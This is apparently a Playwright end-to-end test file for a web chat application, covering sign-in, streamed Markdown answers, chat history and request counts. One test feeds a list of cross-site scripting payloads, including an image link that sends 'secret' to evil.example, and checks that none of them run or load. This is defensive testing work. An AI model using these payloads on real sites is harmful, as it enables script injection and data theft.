import { expect, test } from '@playwright/test'
import { ChatPage } from './chat-page.ts'

// Without a marker the test upstream answers in Markdown: headings, a list, a table, code.
test('signs in by the link, asks, reads the answer as it is written, and finds it again', async ({ page }) => {
  const chat = new ChatPage(page)
  await chat.signIn()
  expect(page.url(), 'the token has left the address').not.toContain('token')
  expect(await page.evaluate(() => document.cookie), 'scripts see no token').toBe('')
  expect(await page.evaluate(() => JSON.stringify({ ...localStorage, ...sessionStorage }))).not.toContain('eyJ')

  await chat.send('How do I take the mean of some numbers? [[pace=20]]')
  await expect(chat.questions).toHaveText(/How do I take the mean of some numbers\?/)
  await expect(chat.answers).toHaveAttribute('aria-busy', 'true')
  await expect(chat.message, 'the question has left the field').toHaveValue('')
  await page.waitForURL(/\/chat\/[0-9a-f-]{36}$/)

  const answer = await chat.finishedAnswer()
  await expectMarkdown(answer)
  await expect(chat.chats.filter({ hasText: 'How do I take the mean' })).toHaveCount(1)

  await page.reload()
  await expect(chat.questions).toHaveText(/How do I take the mean of some numbers\?/)
  await expectMarkdown(await chat.finishedAnswer())

  async function expectMarkdown(answer: ReturnType<typeof page.locator>): Promise<void> {
    await expect(answer.getByRole('heading', { name: 'The main points' })).toBeVisible()
    await expect(answer.getByRole('cell', { name: 'Prototype' })).toBeVisible()
    await expect(answer.getByRole('listitem').filter({ hasText: 'Measure.' })).toBeVisible()
    await expect(answer.locator('pre code').last()).toContainText('double mean(const double *values, size_t count)')
    await expect(answer).toContainText('Would you like me to go deeper into one of these points?')
  }
})

test('a chat that is opened asks for its messages while the page’s code is still on its way, and asks once', async ({ page }) => {
  const chat = new ChatPage(page)
  await chat.signIn()
  await chat.send('Hello')
  await chat.finishedAnswer()
  await page.waitForURL(/\/chat\/[0-9a-f-]{36}$/)

  const asked: string[] = []
  page.on('request', (request) => asked.push(new URL(request.url()).pathname.replace(/[0-9a-f-]{36}/, 'ID')))
  const first = Promise.all([page.waitForRequest('**/chat/features'), page.waitForRequest('**/chat/sessions/*?limit=*')])
  await page.route('**/assets/chat-start-*.js', async (route) => {
    await first
    await route.continue()
  })
  await page.reload()
  await expect(chat.questions).toHaveText(/Hello/)
  await chat.finishedAnswer()
  await expect(chat.chats).toHaveCount(1)
  for (const path of ['features', 'sessions/ID']) expect(asked.filter((each) => each === `/api/v1/chat/${path}`), path).toHaveLength(1)
})

test('goes on with a chat from the list', async ({ page }) => {
  const chat = new ChatPage(page)
  await chat.signIn()
  await chat.send('Hello')
  await chat.finishedAnswer()
  await page.goto('/chat')
  await chat.chats.filter({ hasText: 'Hello' }).click()
  await expect(chat.answers).toHaveCount(1)
  await chat.send('[[text=Still_here]] And now?')
  await expect(await chat.finishedAnswer()).toContainText('Still here')
  await expect(chat.questions).toHaveCount(2)
})

test('what a model writes runs no script and loads nothing from elsewhere', async ({ page, baseURL }) => {
  const chat = new ChatPage(page)
  const elsewhere: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(new URL(baseURL!).origin)) elsewhere.push(request.url())
  })
  page.on('dialog', (dialog) => {
    elsewhere.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  await chat.signIn()
  const attack = [
    '<img/src=x/onerror=alert(1)>', '<svg/onload=alert(1)>', '[click](javascript:alert(1))', '![pixel](https://evil.example/?q=secret)',
    '<iframe/src=javascript:alert(1)></iframe>', '[data](data:text/html,<script>alert(1)</script>)', 'the-end',
  ].join('_')
  await chat.send(`[[text=${attack}]] Attack me`)
  const answer = await chat.finishedAnswer()
  await expect(answer).toContainText('the-end')
  for (const bad of ['a[href^="javascript:"]', 'a[href^="data:"]', 'img[src^="http"]', 'iframe', 'img[onerror]', 'svg[onload]'])
    await expect(answer.locator(bad), bad).toHaveCount(0)
  expect(elsewhere).toEqual([])
})

test('without a token the page leads to sign-in, and from there back', async ({ page }) => {
  await page.goto('/chat')
  await page.waitForURL('**/sign-in?next=**')
  await expect(page.getByRole('button', { name: /sign in/i })).toBeVisible()
})
